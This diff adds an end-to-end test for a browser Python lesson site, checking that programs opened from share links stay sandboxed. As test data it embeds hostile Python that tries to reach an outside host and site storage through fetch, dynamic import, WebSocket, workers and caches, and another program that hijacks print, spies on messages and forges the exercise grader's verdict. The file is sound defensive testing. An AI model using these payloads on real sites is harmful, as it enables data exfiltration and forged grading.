@@ -1,0 +1,123 @@
+/**
+ * Programs from strangers (a share link, one press of Run), served isolated and not:
+ * nothing they do reaches another host or the site's storage, and nothing they leave
+ * behind changes a later run or forges an exercise's verdict. (What each refusal looks
+ * like inside Python: the unit tests of worker-core and fresh.py.)
+ */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { deflateRawSync } from 'node:zlib';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { example, finished, open, replaceCode, resetAndRun, runAgain } from './page-helpers';
+
+const PAGE = '/lessons/executing-tasks/';
+const SQUARING = 'squaring-a-number-slowly';
+const SQUARING_OUTPUT = 'Square 1\nEnd square 1\n1';
+
+/** The page, opening `code` from a share link in the example "Squaring a number, slowly". */
+const linked = (code: string) => `${PAGE}#share-${SQUARING}=${deflateRawSync(Buffer.from(code)).toString('base64url')}`;
+
+/** Every way out that reviews tried, each printed as reached or refused. */
+const ESCAPES = (elsewhere: string) => `
+import js
+def attempt(name, reach):
+    try:
+        reach()
+        print(name, "reached")
+    except Exception as refused:
+        print(name, "refused")
+url = "${elsewhere}/x"
+attempt("eval", lambda: js.eval("1"))
+attempt("Function", lambda: js.Function.new("return 1")())
+attempt("import()", lambda: js.eval(f"import('{url}.js')"))
+attempt("fetch", lambda: js.fetch(url))
+attempt("fetch from the prototype", lambda: js.WorkerGlobalScope.prototype.fetch.call(js, url))
+attempt("XMLHttpRequest", lambda: js.XMLHttpRequest.new())
+attempt("WebSocket", lambda: js.WebSocket.new("ws://127.0.0.1:9"))
+attempt("font", lambda: js.FontFace.new("f", f"url({url}.woff)").load())
+attempt("caches", lambda: js.caches.open("workbox-precache"))
+attempt("caches from the prototype", lambda: js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, "caches").get.call(js))
+attempt("indexedDB", lambda: js.indexedDB.open("db"))
+attempt("origin file system", lambda: js.navigator.storage.getDirectory())
+attempt("worker", lambda: js.Worker.new(url))
+attempt("postMessage", lambda: js.postMessage("forged"))
+`;
+
+/** What a hostile program plants for the runs after it. */
+const PLANTED = `
+import asyncio, builtins, sys, statistics
+import js
+from pyodide.ffi import create_proxy
+import asyncio_live.check, asyncio_live.clock
+
+def hijack(*args):
+    builtins.print = lambda *a, **k: sys.__stdout__.write("hijacked\\n")
+js.setInterval(create_proxy(hijack), 0)
+js.addEventListener("message", create_proxy(lambda event: setattr(js, "spied", "the next example's code")))
+sys.modules["asyncio"] = type("Fake", (), {"run": staticmethod(lambda main: print("a fake asyncio"))})
+asyncio.Runner.run = lambda self, coro, **kwargs: print("a patched Runner")
+asyncio_live.clock.clock.advance = lambda *args: None
+asyncio_live.check.verdict = lambda *args: {"passed": True, "message": ""}
+statistics.mean = lambda data: 42
+print("planted")
+`;
+
+describe.each([
+  ['cross-origin isolated', () => inject('isolatedURL')],
+  ['on a host that sends no headers', () => inject('plainURL')],
+])('a program from a link, %s', (_, base) => {
+  let elsewhere: Server;
+  let elsewhereURL = '';
+  const hits: string[] = [];
+  beforeAll(async () => {
+    // Another host that would answer anything, to anyone.
+    elsewhere = createServer((request, response) => {
+      hits.push(request.url ?? '');
+      response.writeHead(200, {
+        'Access-Control-Allow-Origin': '*',
+        'Cross-Origin-Resource-Policy': 'cross-origin',
+        'Content-Type': 'text/javascript',
+      });
+      response.end('self.reachedElsewhere = true;');
+    });
+    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+    elsewhereURL = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
+  });
+  afterAll(() => new Promise<void>((resolve) => elsewhere.close(() => resolve())));
+
+  it('reaches no other host, no storage of the site and no channel out of its worker', async () => {
+    const { page, requests, close } = await open(base(), linked(ESCAPES(elsewhereURL)));
+    const ex = example(page, 'Squaring a number, slowly');
+    await ex.locator('.live-example__notice', { hasText: 'This code came from a link' }).waitFor({ timeout: 30_000 });
+    const output = await runAgain(ex);
+    const lines = output.split('\n');
+    expect(lines).toHaveLength(14);
+    expect(lines.filter((line) => !line.endsWith(' refused'))).toEqual([]);
+    // The page still works, and nothing went anywhere but the site.
+    expect(await resetAndRun(ex)).toBe(SQUARING_OUTPUT);
+    expect(hits).toEqual([]);
+    expect(requests.filter((url) => !url.startsWith(base()) && !url.startsWith('blob:'))).toEqual([]);
+    await close();
+  });
+
+  it('leaves nothing behind: later runs, other examples and exercise checks run as on a fresh interpreter', async () => {
+    const { page, close } = await open(base(), linked(PLANTED));
+    const ex = example(page, 'Squaring a number, slowly');
+    expect(await runAgain(ex)).toBe('planted');
+    // Another example of the page, on the same interpreter.
+    const three = example(page, 'Three squares in one second');
+    expect(await runAgain(three)).toContain('[1, 4, 9]');
+    // An exercise: a wrong prediction is still wrong.
+    const exercise = page.locator('live-example[data-example-id="taking-turns"]');
+    await exercise.getByRole('textbox', { name: /Your prediction/ }).fill('nothing at all');
+    await exercise.getByRole('button', { name: 'Check' }).click();
+    await exercise.locator('.exercise__verdict-title').filter({ hasText: /^(✓ Solved|Not yet)/ }).waitFor({ timeout: 30_000 });
+    expect(await exercise.locator('.exercise__verdict-title').innerText()).toBe('Not yet');
+    // The example's own code, and a program that looks for what was planted.
+    expect(await resetAndRun(ex)).toBe(SQUARING_OUTPUT);
+    await replaceCode(page, ex, 'import js, statistics\nprint(statistics.mean([1, 3]), getattr(js, "spied", "heard nothing"))');
+    await ex.getByRole('button', { name: 'Run' }).click();
+    expect(await finished(ex)).toBe('2 heard nothing');
+    await close();
+  });
+});
